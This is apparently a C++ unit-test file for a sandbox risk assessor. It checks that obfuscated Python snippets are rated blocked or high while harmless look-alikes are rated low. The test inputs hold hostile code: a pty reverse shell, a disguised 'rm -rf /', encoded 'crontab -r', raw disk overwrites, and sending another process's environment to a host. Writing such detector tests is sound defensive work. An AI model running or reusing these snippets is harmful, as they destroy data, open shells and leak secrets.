// Values and code hidden in shapes a reader skims (issue 13, round 4): a callable chosen by a
// conditional, a method of decoded data, what self.method() returns, a module's namespace read
// with a computed key, identifier fragments in a list, `python -c` code inside strings, flags
// joined with `|`, and code pushed below a long run of blank lines. Each case pairs the hidden
// form with an honest look-alike that must stay lower.
#include <gtest/gtest.h>

#include <string>

#include "assess_fixture.hpp"
#include "sandboxrun/assess.hpp"

using namespace sandboxrun;

namespace {

using assess_fixture::level;

}  // namespace

TEST(AssessHidden, ConditionalKeepsTheCallable) {
  EXPECT_EQ(level("import builtins, sys\nrun = builtins.exec if sys.argv else None\nrun('imp' + 'ort os')\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("import os\nsh = os.getenv('SHELL') or '/bin/sh'\nos.execv(sh, [sh, '-l'])\n"), RiskLevel::high);
  EXPECT_EQ(level("import sys\nout = print if sys.argv else None\nout('hello')\n"), RiskLevel::low);
}

TEST(AssessHidden, DecodedDataStaysDecodedThroughItsMethods) {
  EXPECT_EQ(level("import os, zlib\nB = b'x'\nos.system(zlib.decompress(B).decode().strip())\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("import zlib\nB = b'x'\nprint(zlib.decompress(B).decode().strip())\n"), RiskLevel::low);
}

TEST(AssessHidden, SelfMethodReturnsWhatItsDefReturns) {
  EXPECT_EQ(level("import base64\nclass L:\n    def code(self):\n        return base64.b64decode(self.d)\n"
                  "    def run(self):\n        exec(self.code())\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("import json\nclass S:\n    def data(self):\n        return json.loads(self.t)\n"
                  "    def get(self, k):\n        return self.data()[k]\n"),
            RiskLevel::low);
}

TEST(AssessHidden, ModuleNamespaceReadsAnAttribute) {
  EXPECT_EQ(level("import os, sys\nos.__dict__['system']('ls ' + sys.argv[1])\n"), RiskLevel::high);
  EXPECT_EQ(level("import urllib.request\nt = vars(urllib.request)\nk = ''.join(chr(c) for c in (117, 114))\n"
                  "t[k]('https://example.org')\n"),
            RiskLevel::high);
  // An object's own namespace or argparse's is data.
  EXPECT_EQ(level("import argparse\nopts = vars(argparse.ArgumentParser().parse_args())\nprint(opts['name'])\n"),
            RiskLevel::low);
}

TEST(AssessHidden, IdentifierFragmentsAreJoined) {
  EXPECT_EQ(level("import os\ndef f(p):\n    return getattr(os, ''.join(p))\nf(['se', 'tu', 'id'])(0)\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("import os\ndef f(p):\n    return getattr(os, ''.join(p))\nf(('sys', 'tem'))('id')\n"),
            RiskLevel::high);
  EXPECT_EQ(level("LANGS = ['en', 'de', 'fr']\nAXES = ('x', 'y')\nprint(''.join(LANGS), AXES)\n"), RiskLevel::low);
}

TEST(AssessHidden, CommandLineFragmentsAreReadWhole) {
  // A command cut into pieces in a tuple, joined elsewhere (reduce, a helper) and run through a
  // call reached by its assembled name.
  EXPECT_EQ(level("import os\nfrom functools import reduce\n"
                  "PARTS = ('r', 'm', ' -', 'rf', ' --no-', 'preserve-', 'root ')\n"
                  "run = getattr(os, 'sys' + 'tem')\nrun(reduce(lambda a, b: a + b, PARTS, '') + '/')\n"),
            RiskLevel::blocked);
  // Words of a message or short labels are no command.
  EXPECT_EQ(level("WORDS = ('the ', 'quick ', 'brown ', 'fox')\nprint(''.join(WORDS))\n"), RiskLevel::low);
}

TEST(AssessHidden, PythonDashCCodeIsRead) {
  EXPECT_EQ(level("import subprocess\nC = \"import os,pty,socket as n;c=n.create_connection(('h',1));"
                  "[os.dup2(c.fileno(),d) for d in (0,1,2)];pty.spawn('/bin/sh')\"\n"
                  "subprocess.Popen(['python3', '-c', C])\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("H = ('nohup python3 -c \\'import os;os.dup2(1,2);'\n     'import pty;pty.spawn(\"/bin/sh\")\\'')\n"
                  "import socket\nsocket.socket()\nopen('hook.txt', 'w').write(H)\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import sys; print(sys.version)'])\n"),
            RiskLevel::medium);
}

TEST(AssessHidden, FlagsJoinedWithBarKeepTheirNames) {
  EXPECT_EQ(level("import os\nfor n in os.listdir('/sys/block'):\n"
                  "    fd = os.open('/dev/' + n, os.O_RDWR | os.O_SYNC)\n    os.write(fd, bytes(512))\n"),
            RiskLevel::blocked);
  // A write of its own file, like open('out.bin', 'w'): MEDIUM by the policy, not BLOCKED.
  EXPECT_EQ(level("import os\nfd = os.open('out.bin', os.O_WRONLY | os.O_CREAT)\nos.write(fd, b'x')\n"),
            RiskLevel::medium);
}

TEST(AssessHidden, CodeBelowBlankPadding) {
  const std::string padded = "print(1)\n" + std::string(150, '\n') + "import socket\nsocket.create_connection(('h', 1))\n";
  EXPECT_EQ(level(padded), RiskLevel::high);
  const std::string spaced = "print(1)\n" + std::string(40, '\n') + "print(2)\n";
  EXPECT_EQ(level(spaced), RiskLevel::low);
  // Blank lines at the end hide nothing.
  EXPECT_EQ(level("print(1)\n" + std::string(300, '\n')), RiskLevel::low);
}

TEST(AssessHidden, NamesFromCallPiecesAndCharacterCodes) {
  EXPECT_EQ(level("import os\ndef pick(a, b):\n    return getattr(os, a + b)\npick('set', 'uid')(0)\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("import builtins, urllib.request\nfn = getattr(builtins, ''.join(map(chr, [101, 118, 97, 108])))\n"
                  "fn(urllib.request.urlopen('https://example.org').read())\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("RED = (255, 0, 0)\nV = [97, 101, 105]\ndef f(a, b):\n    return a + b\nprint(f('ab', 'cd'), RED, V)\n"),
            RiskLevel::low);
}

TEST(AssessHidden, AugmentedStringsAndCodePieces) {
  // Pieces of statements joined in a loop and executed.
  EXPECT_EQ(level("P = ['import o', 's;o', 's.getcwd()']\nsrc = ''\nfor p in P:\n    src += p\nexec(src)\n"),
            RiskLevel::blocked);
  // `+=` of a constant keeps folding the command.
  EXPECT_EQ(level("import os\ncmd = 'rm -rf '\ncmd += '/'\nos.system(cmd)\n"), RiskLevel::blocked);
  EXPECT_EQ(level("L = ['import sys', 'print(sys.argv)', 'x = 1']\nprint('\\n'.join(L))\n"), RiskLevel::low);
}

TEST(AssessHidden, Base64ConstantsHoldingCodeAreRead) {
  // "import os\nos.system('crontab -r')\n", decoded in one function and run in another.
  EXPECT_EQ(level("import base64\nB = 'aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3JvbnRhYiAtcicpCg=='\n"
                  "def un(d):\n    return base64.b64decode(d).decode()\ndef run(s):\n    exec(s)\nrun(un(B))\n"),
            RiskLevel::blocked);
  // "Thanks (v2).\nSee the docs; bye.\n" is text, not code that does anything.
  EXPECT_EQ(level("import base64\nN = 'VGhhbmtzICh2MikuClNlZSB0aGUgZG9jczsgYnllLgo='\n"
                  "def show(b):\n    print(base64.b64decode(b).decode())\nshow(N)\n"),
            RiskLevel::low);
}

TEST(AssessHidden, AHiddenExecBesideADecoderRunsTheDecodedBlob) {
  // The decoders handed to a codec loop, exec reached by a name built from pieces.
  const std::string run =
      "import base64, zlib\nSTEPS = [base64.b64decode, zlib.decompress]\n"
      "def load(blob, scope):\n    for s in STEPS:\n        blob = s(blob)\n"
      "    getattr(__builtins__, 'ex' + 'ec')(blob, scope)\n";
  EXPECT_EQ(level(run), RiskLevel::blocked);
  // Hidden but with nothing decoded in the file: hidden execution, HIGH.
  EXPECT_EQ(level("import sys\ngetattr(__builtins__, 'ex' + 'ec')(sys.stdin.read(), {})\n"), RiskLevel::high);
  // A decoder with no hidden execution: data.
  EXPECT_EQ(level("import base64, sys\nprint(base64.b64decode(sys.argv[1]))\n"), RiskLevel::low);
}

TEST(AssessHidden, AComputedNameRaisesAnInjectableCommandToBlocked) {
  // "Reaching a call through getattr ... with a computed name raises the level of the call it
  // reaches": os.system of input is HIGH, hidden it is BLOCKED; a hidden constant command HIGH.
  EXPECT_EQ(level("import os, sys\nf = getattr(os, 'sy' + 'stem')\nf(sys.argv[1])\n"), RiskLevel::blocked);
  EXPECT_EQ(level("import operator, os, sys\nrun = operator.attrgetter('sys' + 'tem')(os)\nrun(' '.join(sys.argv[1:]))\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("import os\nf = getattr(os, 'sy' + 'stem')\nf('uptime')\n"), RiskLevel::high);
  EXPECT_EQ(level("import os, sys\nos.system(sys.argv[1])\n"), RiskLevel::high);
}

TEST(AssessHidden, AnotherProcesssEnvironmentReadIsHighItsMemoryBlocked) {
  // /proc/PID/mem is the policy's BLOCKED; another process's environment is a secret that is not
  // its own (HIGH), and sent out, exfiltration.
  EXPECT_EQ(level("def env(pid):\n    return open(f'/proc/{pid}/environ', 'rb').read().split(b'\\0')\nprint(env(1))\n"),
            RiskLevel::high);
  EXPECT_EQ(level("import os\nfd = os.open('/proc/1/mem', os.O_RDONLY)\nprint(os.read(fd, 16))\n"), RiskLevel::blocked);
  EXPECT_EQ(level("import socket\ns = socket.create_connection(('h.example', 9))\n"
                  "s.sendall(open('/proc/1/environ', 'rb').read())\n"),
            RiskLevel::blocked);
  // Its own memory map, for its own accounting: read and printed.
  EXPECT_EQ(level("print(open('/proc/self/maps').read().count('\\n'))\n"), RiskLevel::low);
}
